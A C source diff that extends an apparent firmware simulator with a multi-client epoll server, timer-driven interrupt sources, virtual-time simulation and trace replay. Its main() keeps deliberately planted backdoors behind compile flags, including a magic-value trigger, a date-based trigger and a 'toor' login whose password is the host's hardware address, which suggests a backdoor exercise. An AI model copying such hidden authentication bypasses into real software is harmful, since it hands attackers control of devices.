+interrupt_add(const char *spec) {
+    struct InterruptSource *src = &interrupt_sources[ninterrupt_sources];
+    const char *p = spec;
+    char *end;
+    long id = 0;
+    int n = 0;
+
+    if (ninterrupt_sources == MAX_INTERRUPT_SOURCES)
+        return -1;
+    while ((*p >= 'a' && *p <= 'z') || (*p >= '0' && *p <= '9') || *p == '_')
+        ++p;
+    if ((src->var = var_lookup(spec, p - spec)) < 0)
+        return -1;
+    if (*p == '@') {
+        id = strtol(p + 1, &end, 10);
+        p = end;
+    }
+    if (id < 0 || id >= ndevices ||
+        sscanf(p, ":%lf:%lf:%lf:%lf%n", &src->hz, &src->mean, &src->amplitude, &src->signal_hz, &n) != 4 || p[n] ||
+        src->hz <= 0 || src->hz > 1e6)
+        return -1;
+    src->spec = spec;
+    src->fd = -1;
+    src->dev = &devices[id];
+    src->period = 1e9 / src->hz;
+    src->late_min = UINT64_MAX;
+    ++ninterrupt_sources;
+    return 0;
+}
+
+/* Arms every source's timer and adds it to the epoll set EPFD. */
+static int
+interrupts_start(int epfd) {
+    struct InterruptSource *src;
+    struct itimerspec its;
+    struct epoll_event ev;
+    uint64_t now = monotonic_now();
+
+    for (src = interrupt_sources; src != interrupt_sources + ninterrupt_sources; ++src) {
+        if ((src->fd = timerfd_create(CLOCK_MONOTONIC, TFD_NONBLOCK)) < 0)
+            return -1;
+        src->start = now + src->period;
+        src->deadline = now;
+        its.it_value.tv_sec = src->start / 1000000000;
+        its.it_value.tv_nsec = src->start % 1000000000;
+        its.it_interval.tv_sec = src->period / 1000000000;
+        its.it_interval.tv_nsec = src->period % 1000000000;
+        if (timerfd_settime(src->fd, TFD_TIMER_ABSTIME, &its, NULL) < 0)
+            return -1;
+        ev.events = EPOLLIN;
+        ev.data.fd = src->fd;
+        epoll_ctl(epfd, EPOLL_CTL_ADD, src->fd, &ev);
+    }
+    return 0;
+}
+
+/* Closes the timers.  A what-if branch closes its copies without disarming the server's timers. */
+static void
+interrupts_close(void) {
+    int i;
+    for (i=0; i<ninterrupt_sources; ++i) {
+        if (interrupt_sources[i].fd >= 0)
+            close(interrupt_sources[i].fd);
+        interrupt_sources[i].fd = -1;
+    }
+}
+
+/* Returns the source whose timer is FD, or null. */
+static struct InterruptSource *
+interrupt_find(int fd) {
+    int i;
+    for (i=0; i<ninterrupt_sources; ++i) {
+        if (interrupt_sources[i].fd == fd)
+            return &interrupt_sources[i];
+    }
+    return NULL;
+}
+
+/* Takes the sample of SRC for its latest deadline and lets the firmware react to it. */
+static void
+interrupt_sample(struct InterruptSource *src) {
+    const struct VariableDesc *desc = &var_schema[src->var];
+    double value = src->mean + src->amplitude * wave_sine(src->signal_hz * ((src->deadline - src->start) / 1e9));
+
+    value = value < desc->min ? desc->min : value > desc->max ? desc->max : value + 0.5;
+    var_write(src->dev, src->var, (uint32_t)value);
+    simulate_interrupt(src->dev);
+    notify_watchers(src->dev);
+}
+
+/* Takes the sample for the latest deadline of SRC that has passed, after its timer expired. */
+static void
+interrupt_run(struct InterruptSource *src) {
+    uint64_t expirations, now, late;
+
+    if (read(src->fd, &expirations, sizeof expirations) != sizeof expirations || !expirations)
+        return;
+    now = monotonic_now();
+    src->deadline += expirations * src->period;
+    src->missed += expirations - 1;
+    ++src->samples;
+    late = now > src->deadline ? now - src->deadline : 0;
+    if (late < src->late_min)
+        src->late_min = late;
+    if (late > src->late_max)
+        src->late_max = late;
+    src->late_sum += late;
+    interrupt_sample(src);
+}
+
+/* Writes a line of statistics for each source to SOCK. */
+static void
+interrupts_report(int sock) {
+    const struct InterruptSource *src;
+    char line[256];
+
+    if (!ninterrupt_sources)
+        client_write(sock, "no interrupt sources\n", 21);
+    for (src = interrupt_sources; src != interrupt_sources + ninterrupt_sources; ++src) {
+        client_write(sock, line, sprintf(line, "%s: %llu samples, %llu missed, late min %.1f avg %.1f max %.1f us\n", src->spec,
+                                  (unsigned long long)src->samples, (unsigned long long)src->missed,
+                                  src->samples ? src->late_min / 1e3 : 0.0,
+                                  src->samples ? (double)src->late_sum / src->samples / 1e3 : 0.0,
+                                  src->late_max / 1e3));
+    }
+}
+
+int server(int port)
+{
+    int socket_desc , client_sock , c , read_size, epfd, nready, i, behind = 0;
+    struct sockaddr_in server , client;
+    struct epoll_event ev, events[64];
+    char client_message[READ_BUF_LEN];
+    struct Connection *conn;
+    struct InterruptSource *src;
+
+    signal(SIGPIPE, SIG_IGN);
+    signal(SIGCHLD, SIG_IGN);                           /* what-if branches are reaped automatically */
+
+    //Create socket
+    socket_desc = socket(AF_INET , SOCK_STREAM , 0);
+    if (socket_desc == -1)
+    {
+        printf("Could not create socket");
+    }
+    puts("Socket created");
+
+    server.sin_family = AF_INET;
+    server.sin_addr.s_addr = INADDR_ANY;
+    server.sin_port = htons(port);
 
     if( bind(socket_desc,(struct sockaddr *)&server , sizeof(server)) < 0)
     {
@@ -439,58 +3317,544 @@ int server(int port)
     }
     puts("bind done");
 
-    listen(socket_desc , 3);
+    listen(socket_desc , SOMAXCONN);
 
-    //Accept incoming connection
+    //Accept incoming connections and commands from all clients
     printf("Listing at TCP port %d...\n", LISTEN_PORT);
-    c = sizeof(struct sockaddr_in);
-
-    //accept connection from an incoming client
-    client_sock = accept(socket_desc, (struct sockaddr *)&client, (socklen_t*)&c);
-    if (client_sock < 0)
+    if ((epfd = epoll_create(1)) < 0)
     {
-        perror("accept failed");
+        perror("epoll_create failed");
         return 1;
     }
-    puts("Connect");
+    ev.events = EPOLLIN;
+    ev.data.fd = socket_desc;
+    epoll_ctl(epfd, EPOLL_CTL_ADD, socket_desc, &ev);
+    if (interrupts_start(epfd) < 0) {
+        perror("interrupts_start");
+        return 1;
+    }
+
+    while (!exit_requested) {
+        if ((nready = epoll_wait(epfd, events, 64, behind ? 0 : persistence_timeout())) < 0) {
+            if (errno == EINTR)
+                continue;
+            perror("epoll_wait failed");
+            return 1;
+        }
+        wal_sync_maybe();
+        checkpoint_maybe();
+        for (i=0; i<nready && !exit_requested; ++i) {
+            if (events[i].data.fd == socket_desc) {
+                c = sizeof(struct sockaddr_in);
+                client_sock = accept(socket_desc, (struct sockaddr *)&client, (socklen_t*)&c);
+                if (client_sock < 0)
+                {
+                    perror("accept failed");
+                    continue;
+                }
+                if (!connection_new(client_sock)) {
+                    perror("connection_new");
+                    close(client_sock);
+                    continue;
+                }
+                puts("Connect");
+                ev.events = EPOLLIN;
+                ev.data.fd = client_sock;
+                epoll_ctl(epfd, EPOLL_CTL_ADD, client_sock, &ev);
+                client_write(client_sock, CLIENT_USAGE, strlen(CLIENT_USAGE));
+                connection_watch(epfd, connections[client_sock]);
+                continue;
+            }
+
+            if ((src = interrupt_find(events[i].data.fd))) {
+                interrupt_run(src);
+                continue;
+            }
+
+            //Receive a message from a client
+            if (!(conn = connections[events[i].data.fd]))
+                continue;
+            if (events[i].events & EPOLLOUT) {
+                /* The client's socket has room again: send what's queued for it.  Its commands are read, and a follower
+                 * is sent more changes, once nothing is queued. */
+                connection_flush(conn);
+                connection_watch(epfd, conn);
+                if (!(events[i].events & (EPOLLHUP | EPOLLERR)) &&
+                    (!(events[i].events & EPOLLIN) || conn->out_len > conn->out_sent))
+                    continue;
+            }
+            if ((read_size = recv(conn->sock , client_message , READ_BUF_LEN , 0)) <= 0) {
+                if (read_size == 0)
+                {
+                    parser_end_line(&conn->parser, conn->sock);
+                    puts("Client disconnected");
+                    fflush(stdout);
+                }
+                else
+                {
+                    perror("recv failed");
+                }
+                connection_close(conn);
+                detaching = 0;                          /* a branch started by the last line has nothing to serve */
+                if (in_branch)
+                    exit_requested = 1;
+                continue;
+            }
+            parser_feed(&conn->parser, client_message, read_size, conn->sock);
+            if (detaching) {
+                /* A what-if branch has taken over the client.  A branch that handed over its only client to a nested branch
+                 * has nothing left to serve. */
+                detaching = 0;
+                epoll_ctl(epfd, EPOLL_CTL_DEL, conn->sock, NULL);
+                connection_close(conn);
+                if (in_branch)
+                    exit_requested = 1;
+                continue;
+            }
+            if (in_branch == 1) {
+                /* This is the branch.  The listening socket and the epoll instance are shared with the server, so trade
+                 * them for a private epoll instance that watches only this client. */
+                close(socket_desc);
+                socket_desc = -1;
+                interrupts_close();
+                close(epfd);
+                epfd = epoll_create(1);
+                ev.events = conn->events;
+                ev.data.fd = conn->sock;
+                epoll_ctl(epfd, EPOLL_CTL_ADD, conn->sock, &ev);
+                in_branch = 2;
+                nready = 0;
+            }
+            if (!exit_requested)
+                client_write(conn->sock, CLIENT_USAGE, strlen(CLIENT_USAGE));
+            connection_watch(epfd, conn);
+        }
+        behind = journal_push(epfd);
+    }
+
+    for (i=0; i<connections_size; ++i) {
+        if (connections[i])
+            connection_close(connections[i]);
+    }
+    interrupts_close();
+    close(epfd);
+    close(socket_desc);
+    return 0;
+}
+
+/* Runs the command lines from FILENAME through the command processor without any networking and reports the command rate
+ * on standard error.  If QUIET is set then client replies and state dumps are discarded. */
+int batch(const char *filename, int quiet) {
+    static struct CommandParser cp;
+    char buf[READ_BUF_LEN];
+    int in;
+    ssize_t nread;
+    struct timespec start, stop;
+    double elapsed;
+
+    in = strcmp(filename, "-") ? open(filename, O_RDONLY) : STDIN_FILENO;
+    if (in < 0) {
+        perror(filename);
+        return 1;
+    }
+    if (quiet && !freopen("/dev/null", "w", stdout)) {
+        perror("/dev/null");
+        return 1;
+    }
+
+    parser_reset(&cp);
+    clock_gettime(CLOCK_MONOTONIC, &start);
+    while (!exit_requested && (nread = read(in, buf, sizeof buf)) > 0)
+        parser_feed(&cp, buf, nread, STDOUT_FILENO);
+    if (!exit_requested)
+        parser_end_line(&cp, STDOUT_FILENO);
+    clock_gettime(CLOCK_MONOTONIC, &stop);
+    fflush(stdout);
+
+    elapsed = (stop.tv_sec - start.tv_sec) + (stop.tv_nsec - start.tv_nsec) / 1e9;
+    fprintf(stderr, "batch: %lu commands in %.6f seconds (%.0f commands/second)\n",
+            ncommands, elapsed, elapsed > 0 ? ncommands / elapsed : 0.0);
+
+    if (in != STDIN_FILENO)
+        close(in);
+    return 0;
+}
+
+/* Discrete-event simulation (-V).  Instead of serving clients in real time, the program runs a scenario in virtual time as
+ * fast as it can: the interrupt sources (-I) take their samples and the scenario's commands (-b) run at their virtual
+ * times, in order, with the virtual clock standing still between events.  Everything the firmware reads the time from --
+ * history, windows of trip rules, the back doors' date -- sees the virtual clock, which starts at the epoch.  Pending events
+ * wait in a binary heap ordered by virtual time, with ties broken by the order in which they were scheduled, so a run
+ * depends on nothing but its inputs and gives the same results every time.
+ *
+ * Each line of the scenario is a virtual time in seconds followed by a command, as in "3600.5 auth root abc123 set
+ * voltage 250".  Lines are read one at a time as the simulation reaches them; a line whose time has already passed runs
+ * at once. */
+struct SimEvent {
+    uint64_t time;                                      /* virtual time of the event */
+    uint64_t seq;                                       /* number of events scheduled before it */
+    int source;                                         /* interrupt source to sample, or -1 for the scenario's next line */
+};
+
+static struct SimEvent *sim_events;                     /* the heap */
+static size_t sim_nevents, sim_events_cap;
+static uint64_t sim_nscheduled;
+
+static int
+sim_before(const struct SimEvent *a, const struct SimEvent *b) {
+    return a->time < b->time || (a->time == b->time && a->seq < b->seq);
+}
+
+static int
+sim_schedule(uint64_t time, int source) {
+    struct SimEvent ev, *grown;
+    size_t i, up;
+
+    if (sim_nevents == sim_events_cap) {
+        sim_events_cap = sim_events_cap ? 2*sim_events_cap : 16;
+        if (!(grown = realloc(sim_events, sim_events_cap * sizeof *grown)))
+            return -1;
+        sim_events = grown;
+    }
+    ev.time = time;
+    ev.seq = sim_nscheduled++;
+    ev.source = source;
+    for (i = sim_nevents++; i > 0 && sim_before(&ev, &sim_events[up = (i-1)/2]); i = up)
+        sim_events[i] = sim_events[up];
+    sim_events[i] = ev;
+    return 0;
+}
 
-    //Receive a message from client
-    while (1) {
-        write(client_sock, CLIENT_USAGE, strlen(CLIENT_USAGE));
-        if ((read_size = recv(client_sock , client_message , MAX_CMD_LEN , 0)) <= 0)
+/* Removes the earliest event from the heap and returns it in *EV. */
+static void
+sim_next(struct SimEvent *ev) {
+    struct SimEvent last = sim_events[--sim_nevents];
+    size_t i = 0, child;
+
+    *ev = sim_events[0];
+    while ((child = 2*i + 1) < sim_nevents) {
+        if (child + 1 < sim_nevents && sim_before(&sim_events[child+1], &sim_events[child]))
+            ++child;
+        if (!sim_before(&sim_events[child], &last))
             break;
+        sim_events[i] = sim_events[child];
+        i = child;
+    }
+    sim_events[i] = last;
+}
 
-        client_message[read_size] = '\0';
-        if (parse_input(client_message, words, client_sock) < 0) {
-            perror("error in input");
-            return 1;
+/* The scenario being run. */
+struct Scenario {
+    FILE *in;
+    char *line;                                         /* the line whose command runs next */
+    size_t cap;
+    ssize_t len;
+    const char *command;                                /* where the command starts in line */
+    unsigned lineno;
+};
+
+/* Reads the scenario's next line and schedules its command.  Returns 1 if it did, 0 at the end of the scenario, -1 on a line
+ * that doesn't start with a time, and -2 if out of memory. */
+static int
+scenario_next(struct Scenario *sc) {
+    char *end;
+    double t;
+
+    while ((sc->len = getline(&sc->line, &sc->cap, sc->in)) > 0) {
+        ++sc->lineno;
+        t = strtod(sc->line, &end);
+        if (end == sc->line) {
+            for (; *end == ' ' || *end == '\t' || *end == '\r' || *end == '\n'; ++end)
+                /* blank lines are allowed */;
+            if (!*end)
+                continue;
         }
-        simulate_interrupt();
-        show_variables();
+        if (end == sc->line || t < 0 || t > 1e10)
+            return -1;
+        sc->command = end;
+        t *= 1e9;
+        return sim_schedule((uint64_t)t > virtual_now ? (uint64_t)t : virtual_now, -1) < 0 ? -2 : 1;
+    }
+    return 0;
+}
+
+/* Runs SECONDS of virtual time with the interrupt sources and the scenario in FILENAME (standard input if "-"; none if
+ * null), and reports the speed of the simulation on standard error.  If QUIET is set then replies and state dumps are
+ * discarded. */
+int simulate(const char *filename, double seconds, int quiet) {
+    static struct CommandParser cp;
+    struct Scenario sc = {0};
+    struct InterruptSource *src;
+    struct SimEvent ev;
+    struct timespec start, stop;
+    uint64_t end = seconds * 1e9, nevents = 0;
+    int status = 0, i;
+    double elapsed;
+
+    if (filename && !(sc.in = strcmp(filename, "-") ? fopen(filename, "r") : stdin)) {
+        perror(filename);
+        return 1;
+    }
+    if (quiet && !freopen("/dev/null", "w", stdout)) {
+        perror("/dev/null");
+        return 1;
     }
 
-    if(read_size == 0)
-    {
-        puts("Client disconnected");
-        fflush(stdout);
+    for (i=0; i<ninterrupt_sources; ++i) {
+        src = &interrupt_sources[i];
+        src->start = src->period;
+        if (sim_schedule(src->start, i) < 0)
+            status = -2;
     }
-    else if(read_size == -1)
-    {
-        perror("recv failed");
+    if (status == 0 && sc.in)
+        status = scenario_next(&sc);
+    parser_reset(&cp);
+    clock_gettime(CLOCK_MONOTONIC, &start);
+    while (status >= 0 && !exit_requested && sim_nevents && sim_events[0].time <= end) {
+        sim_next(&ev);
+        virtual_now = ev.time;
+        ++nevents;
+        if (ev.source < 0) {
+            parser_feed(&cp, sc.command, sc.len - (sc.command - sc.line), STDOUT_FILENO);
+            if (!exit_requested)
+                parser_end_line(&cp, STDOUT_FILENO);
+            status = scenario_next(&sc);
+        } else {
+            src = &interrupt_sources[ev.source];
+            src->deadline = ev.time;
+            ++src->samples;
+            interrupt_sample(src);
+            if (sim_schedule(ev.time + src->period, ev.source) < 0)
+                status = -2;
+        }
+    }
+    if (status >= 0 && !exit_requested)
+        virtual_now = end;                              /* nothing else happens before the end */
+    clock_gettime(CLOCK_MONOTONIC, &stop);
+    fflush(stdout);
+
+    elapsed = (stop.tv_sec - start.tv_sec) + (stop.tv_nsec - start.tv_nsec) / 1e9;
+    if (status == -1)
+        fprintf(stderr, "simulate: %s:%u: expected a time\n", filename, sc.lineno);
+    else if (status < 0)
+        fputs("simulate: out of memory\n", stderr);
+    fprintf(stderr, "simulate: %.3f virtual seconds, %llu events (%lu commands) in %.6f seconds (%.0fx real time)\n",
+            virtual_now / 1e9, (unsigned long long)nevents, ncommands, elapsed,
+            elapsed > 0 ? virtual_now / 1e9 / elapsed : 0.0);
+
+    if (sc.in && sc.in != stdin)
+        fclose(sc.in);
+    free(sc.line);
+    return status < 0;
+}
+
+/* Trace replay (-T).  A trace is a recording of sensor readings: a TraceHeader followed by TraceRecords in time order.  The
+ * file is mapped into memory and its records are streamed through var_write and simulate_interrupt, the same path commands
+ * and interrupt sources take, with the virtual clock set to each record's time, so history and rule windows see the
+ * recorded times.  Records are replayed as fast as possible, or paced to SPEED times their recorded rate. */
+#define TRACE_MAGIC 0x31544442                          /* "BDT1" */
+
+struct TraceHeader {
+    uint32_t magic;
+    uint32_t reserved;
+    uint64_t nrecords;
+};
+
+struct TraceRecord {
+    uint64_t time;                                      /* nanoseconds since the epoch */
+    uint32_t value;                                     /* in stored units */
+    uint32_t where;                                     /* device << 8 | variable */
+};
+
+/* Replays the trace in FILENAME, paced to SPEED times the recorded rate if SPEED is positive, and reports the number of
+ * samples per second and of breakers tripped on standard error.  If QUIET is set then state dumps are discarded. */
+int replay(const char *filename, double speed, int quiet) {
+    const struct TraceHeader *h;
+    const struct TraceRecord *rec, *end;
+    struct timespec start, stop, until;
+    struct stat sb;
+    unsigned long trips = 0, skipped = 0;
+    uint64_t t0, due, origin, clock = 0, applied;
+    unsigned id, x;
+    double elapsed;
+    void *map;
+    int fd;
+
+    if ((fd = open(filename, O_RDONLY)) < 0 || fstat(fd, &sb) < 0) {
+        perror(filename);
+        return 1;
+    }
+    h = map = (size_t)sb.st_size >= sizeof *h ? mmap(NULL, sb.st_size, PROT_READ, MAP_SHARED, fd, 0) : MAP_FAILED;
+    close(fd);
+    if (map == MAP_FAILED || h->magic != TRACE_MAGIC ||
+        h->nrecords > (sb.st_size - sizeof *h) / sizeof(struct TraceRecord)) {
+        fprintf(stderr, "%s: not a trace\n", filename);
+        if (map != MAP_FAILED)
+            munmap(map, sb.st_size);
+        return 1;
+    }
+    madvise(map, sb.st_size, MADV_SEQUENTIAL);
+    if (quiet && !freopen("/dev/null", "w", stdout)) {
+        perror("/dev/null");
+        return 1;
     }
 
+    rec = (const struct TraceRecord *)(h + 1);
+    end = rec + h->nrecords;
+    t0 = h->nrecords ? rec->time : 0;
+    for (id=0; id<ndevices; ++id)
+        trips -= devices[id].ntrips;
+    virtual_time = 1;
+    clock_gettime(CLOCK_MONOTONIC, &start);
+    origin = (uint64_t)start.tv_sec * 1000000000 + start.tv_nsec;
+    for (; rec != end && !exit_requested; ++rec) {
+        id = rec->where >> 8;
+        x = rec->where & 0xff;
+        if (id >= ndevices || rec->value < var_schema[x].min || rec->value > var_schema[x].max) {
+            ++skipped;
+            continue;
+        }
+        if (speed > 0 && rec->time > t0) {
+            /* Sleep only when ahead of schedule; the clock is read again only once a record is due after the last reading. */
+            due = origin + (uint64_t)((rec->time - t0) / speed);
+            if (due > clock && (clock = monotonic_now()) < due) {
+                until.tv_sec = due / 1000000000;
+                until.tv_nsec = due % 1000000000;
+                while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &until, NULL) == EINTR && !exit_requested)
+                    /* sleep until the record is due */;
+            }
+        }
+        virtual_now = rec->time;
+        var_write(&devices[id], x, rec->value);
+        simulate_interrupt(&devices[id]);
+    }
+    clock_gettime(CLOCK_MONOTONIC, &stop);
+    fflush(stdout);
+    for (id=0; id<ndevices; ++id)
+        trips += devices[id].ntrips;
+
+    applied = (rec - (const struct TraceRecord *)(h + 1)) - skipped;
+    elapsed = (stop.tv_sec - start.tv_sec) + (stop.tv_nsec - start.tv_nsec) / 1e9;
+    fprintf(stderr, "replay: %llu samples (%lu skipped) in %.6f seconds (%.0f samples/second), %lu trips\n",
+            (unsigned long long)applied, skipped, elapsed, elapsed > 0 ? applied / elapsed : 0.0, trips);
+    munmap(map, sb.st_size);
     return 0;
 }
 
+/* Stops the program the way "exit" does, so state is saved and the shared-memory export is withdrawn. */
+static void
+terminate_handler(int sig) {
+    (void)sig;
+    exit_requested = 1;
+}
+
 int main(int argc, char **argv) {
-    int port = LISTEN_PORT;
+    int port = LISTEN_PORT, opt, quiet = 0, status, ninterrupt_specs = 0, i;
+    double sim_seconds = 0, replay_speed = 0;
+    const char *interrupt_specs[MAX_INTERRUPT_SOURCES];
+    const char *batch_file = NULL, *store_file = NULL, *state_file = NULL, *wal_file = NULL, *shm_file = NULL;
+    const char *trace_file = NULL;
+    struct sigaction sa;
+
+    while ((opt = getopt(argc, argv, "b:qd:F:n:H:S:P:C:W:G:J:M:R:I:V:T:p:")) != -1) {
+        switch (opt) {
+            case 'b':
+                batch_file = optarg;
+                break;
+            case 'q':
+                quiet = 1;
+                break;
+            case 'd':
+                if (!strcmp(optarg, "full")) {
+                    dump_mode = DUMP_FULL;
+                } else if (!strcmp(optarg, "delta")) {
+                    dump_mode = DUMP_DELTA;
+                } else if (!strcmp(optarg, "none")) {
+                    dump_mode = DUMP_NONE;
+                } else {
+                    fprintf(stderr, "%s: unknown dump mode \"%s\"\n", argv[0], optarg);
+                    return 1;
+                }
+                break;
+            case 'F':
+                full_dump_interval = atoi(optarg);
+                break;
+            case 'n':
+                if (atoi(optarg) < 1) {
+                    fprintf(stderr, "%s: need at least one device\n", argv[0]);
+                    return 1;
+                }
+                ndevices = atoi(optarg);
+                break;
+            case 'H':
+                history_len = 0;
+                if (atoi(optarg) > 0) {
+                    for (history_len = 1; history_len < (unsigned)atoi(optarg); history_len *= 2)
+                        /* round up to a power of two */;
+                }
+                break;
+            case 'S':
+                store_file = optarg;
+                break;
+            case 'P':
+                state_file = optarg;
+                break;
+            case 'C':
+                checkpoint_interval = atoi(optarg);
+                break;
+            case 'W':
+                wal_file = optarg;
+                break;
+            case 'G':
+                wal_group_interval = atoi(optarg);
+                break;
+            case 'J':
+                journal_len = 0;
+                if (atoi(optarg) > 0) {
+                    for (journal_len = 1; journal_len < (unsigned)atoi(optarg); journal_len *= 2)
+                        /* round up to a power of two */;
+                }
+                break;
+            case 'M':
+                shm_file = optarg;
+                break;
+            case 'R':
+                rules_file = optarg;
+                break;
+            case 'V':
+                virtual_time = 1;
+                sim_seconds = atof(optarg);
+                break;
+            case 'T':
+                trace_file = optarg;
+                break;
+            case 'p':
+                replay_speed = atof(optarg);
+                break;
+            case 'I':
+                if (ninterrupt_specs == MAX_INTERRUPT_SOURCES) {
+                    fprintf(stderr, "%s: at most %d interrupt sources\n", argv[0], MAX_INTERRUPT_SOURCES);
+                    return 1;
+                }
+                interrupt_specs[ninterrupt_specs++] = optarg;
+                break;
+            default:
+                fprintf(stderr, "usage: %s [-b FILE [-q]] [-d full|delta|none] [-F N] [-n NDEVICES] [-H N] [-S FILE] "
+                        "[-P FILE [-C MS]] [-W FILE [-G MS]] [-J N] [-M NAME] [-R FILE] [-I SOURCE]... [-V SECONDS] "
+                        "[-T FILE [-p SPEED]] [port]\n", argv[0]);
+                return 1;
+        }
+    }
+    if (optind < argc) {
+        port = atoi(argv[optind]);
+    }
 
     #ifdef ROBB_BACKDOOR_1
     puts("ROBB_BACKDOOR_1 triggered when unused==123");
     #endif
 
     #ifdef SETH_BACKDOOR_1
-    time_t mytime = time(NULL);
+    time_t mytime = sim_now() / 1000000000;
     timenow = localtime(&mytime);
 
     yyyymmdd = (timenow->tm_year+1900) * 10000 + (timenow->tm_mon + 1) * 100 + timenow->tm_mday;
@@ -508,9 +3872,53 @@ int main(int argc, char **argv) {
     get_hwaddr(hwaddr);
     printf("SETH_BACKDOOR_3 triggered when username==toor and password==%s\n", hwaddr);
     #endif
-    if (argc == 2) {
-        port = atoi(argv[1]);
-    }
 
-    return server(port);
+    keywords_init();
+    rules_init();
+    if (devices_init(ndevices) < 0 || (journal_len && !(journal = malloc(journal_len * sizeof *journal)))) {
+        perror("devices_init");
+        return 1;
+    }
+    if (rules_file && rules_load(rules_file) < 0) {
+        fputs(rules_error, stderr);
+        return 1;
+    }
+    for (i=0; i<ninterrupt_specs; ++i) {
+        if (interrupt_add(interrupt_specs[i]) < 0) {
+            fprintf(stderr, "%s: bad interrupt source \"%s\"\n", argv[0], interrupt_specs[i]);
+            return 1;
+        }
+    }
+    if (store_file && store_open(store_file) < 0) {
+        perror(store_file);
+        return 1;
+    }
+    if (state_file && state_open(state_file) < 0) {
+        perror(state_file);
+        return 1;
+    }
+    if (wal_file && wal_open(wal_file, change_seq) < 0) {
+        perror(wal_file);
+        return 1;
+    }
+    journal_base = change_seq;
+    if (shm_file && shm_export_open(shm_file) < 0) {
+        perror(shm_file);
+        return 1;
+    }
+    memset(&sa, 0, sizeof sa);
+    sa.sa_handler = terminate_handler;
+    sigaction(SIGTERM, &sa, NULL);
+    sigaction(SIGINT, &sa, NULL);
+    if (trace_file)
+        status = replay(trace_file, replay_speed, quiet);
+    else if (virtual_time)
+        status = simulate(batch_file, sim_seconds, quiet);
+    else
+        status = batch_file ? batch(batch_file, quiet) : server(port);
+    store_close();
+    state_close();
+    wal_close();
+    shm_export_close();
+    return status;
 }